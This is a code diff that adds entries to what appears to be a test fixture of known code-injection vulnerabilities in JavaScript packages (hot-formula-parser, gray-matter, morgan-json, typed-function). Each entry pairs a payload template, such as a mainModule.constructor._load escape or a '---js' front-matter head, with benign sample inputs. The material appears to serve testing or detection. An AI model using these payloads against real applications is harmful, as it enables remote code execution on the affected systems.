@@ -125,4 +125,37 @@ export default [
     exploit: (code) => `(1).constructor.constructor("return ${code}")()`,
     ordinary: [...ARITHMETIC, 'name == "Ann" ? price : 0'],
   }),
+  formula({
+    package: 'hot-formula-parser',
+    id: 'CVE-2020-6836',
+    title: 'what stands in a list is evaluated',
+    exploit: (code) =>
+      `SUM([(function(){${code.replace('mainModule.require', 'mainModule.constructor._load')}; return 1})(),2])`,
+    ordinary: ['SUM(price, count)', 'IF(price > 10, "dear", "cheap")', 'SUM({1,2,3})'],
+  }),
+  formula({
+    package: 'gray-matter',
+    id: 'GHSA-547r-qmjm-8hvw',
+    title: 'the head of a page says that it is JavaScript',
+    exploit: (code) => `---js\n((${code}), { title: 'x' })\n---\nhello`,
+    ordinary: [
+      '---\ntitle: Ann\nlist: [1, 2]\n---\nhello',
+      'no head (at all); but process.exit()',
+      '---json\n{"title":"require(x)"}\n---\n',
+    ],
+  }),
+  formula({
+    package: 'morgan-json',
+    id: 'CVE-2022-25921',
+    title: 'the format of a log becomes code',
+    exploit: (code) => `x: (${code}) , :method`,
+    ordinary: [':method :status', ':method[a] and :status', ':status'],
+  }),
+  formula({
+    package: 'typed-function',
+    id: 'CVE-2017-1001004',
+    title: 'the name of a function becomes code',
+    exploit: (code) => `(a=${code.replaceAll("'", '"')}){}; return function`,
+    ordinary: ['convert', 'toEuro2', '$price'],
+  }),
 ] satisfies KnownCase[];
